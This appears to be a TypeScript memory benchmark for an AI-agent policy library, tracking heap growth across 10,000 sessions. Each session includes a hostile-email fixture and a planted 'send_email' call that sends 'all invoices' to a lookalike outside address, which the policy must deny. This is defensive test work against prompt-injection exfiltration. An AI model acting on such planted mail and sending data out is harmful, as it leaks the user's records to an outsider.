// Memory: the heap after 10,000 sequential sessions must not grow. Each session is a short run (the user's task, a
// few tool calls through the engine with ≈1 KB results, one denied call), then dropped. Needs `--expose-gc` to read
// a settled heap; without it the benchmark reports that it was skipped.
import { createSession } from '@labelflow/core';
import { benchPolicy, wrappedEngineRun } from './agent-loops.js';
import { HOSTILE_MAIL, nextCallId, script } from './fixtures.js';
import { collectGarbage, formatBytes, hasGc, table, type BenchReport } from './harness.js';

export interface MemoryOptions {
  readonly sessions: number;
  /** Heap readings taken along the way (evenly spaced). */
  readonly readings: number;
  /** Tool calls per session. */
  readonly steps: number;
  readonly outputBytes: number;
}

export const MEMORY_DEFAULTS: MemoryOptions = { sessions: 10_000, readings: 10, steps: 5, outputBytes: 1024 };

/** A settled heap: collect, let finalizers (the descriptor intern table's) run, collect again. */
export async function settledHeap(): Promise<number> {
  for (let pass = 0; pass < 3; pass += 1) {
    collectGarbage();
    await new Promise((resolve) => setImmediate(resolve));
  }
  return process.memoryUsage().heapUsed;
}

export async function benchMemory(options: MemoryOptions = MEMORY_DEFAULTS): Promise<BenchReport> {
  if (!hasGc()) {
    return { title: 'Memory: heap after sequential sessions', text: 'Skipped: run with `node --expose-gc` (`pnpm bench:perf` does).', metrics: { 'memory.skipped': 1 } };
  }
  const policy = benchPolicy();
  const steps = script(options.outputBytes, options.steps);
  const oneSession = async () => {
    const session = createSession({ policy });
    await wrappedEngineRun(steps, session, 'new');
    // A denied call too: decisions and history of denials are part of what a session holds.
    session.recordToolResult({ toolCallId: nextCallId(), toolName: 'read_email', result: HOSTILE_MAIL });
    const denied = await session.checkToolCall({ toolName: 'send_email', toolCallId: nextCallId(), args: { to: 'audit@vend0r.net', body: 'all invoices' } });
    if (denied.decision.type !== 'deny') throw new Error('memory: the hostile call was not denied');
  };
  // Warm-up: code paths compiled, caches at their working size.
  const warmup = Math.min(500, Math.max(1, Math.floor(options.sessions / 20)));
  for (let index = 0; index < warmup; index += 1) await oneSession();
  const every = Math.max(1, Math.floor(options.sessions / options.readings));
  const readings: { sessions: number; heap: number }[] = [{ sessions: 0, heap: await settledHeap() }];
  for (let index = 1; index <= options.sessions; index += 1) {
    await oneSession();
    if (index % every === 0 || index === options.sessions) readings.push({ sessions: index, heap: await settledHeap() });
  }
  const first = readings[1] ?? (readings[0] as { sessions: number; heap: number });
  const last = readings[readings.length - 1] as { sessions: number; heap: number };
  const growth = last.heap - first.heap;
  const perSession = last.sessions === first.sessions ? 0 : growth / (last.sessions - first.sessions);
  // Growth is read from the first reading after sessions ran: the one before may still hold earlier benchmarks' garbage.
  const rows = readings.map((reading) => [reading.sessions.toLocaleString('en-US'), formatBytes(reading.heap), reading.sessions < first.sessions ? '—' : formatBytes(reading.heap - first.heap)]);
  const text = [
    `${options.sessions.toLocaleString('en-US')} sessions one after another (each: ${options.steps} tool calls through \`runToolCall\` with ≈${Math.round(options.outputBytes / 1024)} KB results, ` +
      `one denied call, then dropped), after ${warmup} warm-up sessions. Heap used after GC (\`--expose-gc\`, finalizers settled).`,
    '',
    table(['sessions', 'heap used', `vs ${first.sessions.toLocaleString('en-US')}`], rows),
    '',
    `Growth from ${first.sessions.toLocaleString('en-US')} to ${last.sessions.toLocaleString('en-US')} sessions: ${formatBytes(growth)} (${perSession.toFixed(1)} B per session).`,
  ].join('\n');
  return { title: 'Memory: heap after sequential sessions', text, metrics: { 'memory.growthBytes': growth, 'memory.bytesPerSession': perSession, 'memory.startHeap': readings[0]?.heap ?? 0, 'memory.endHeap': last.heap } };
}
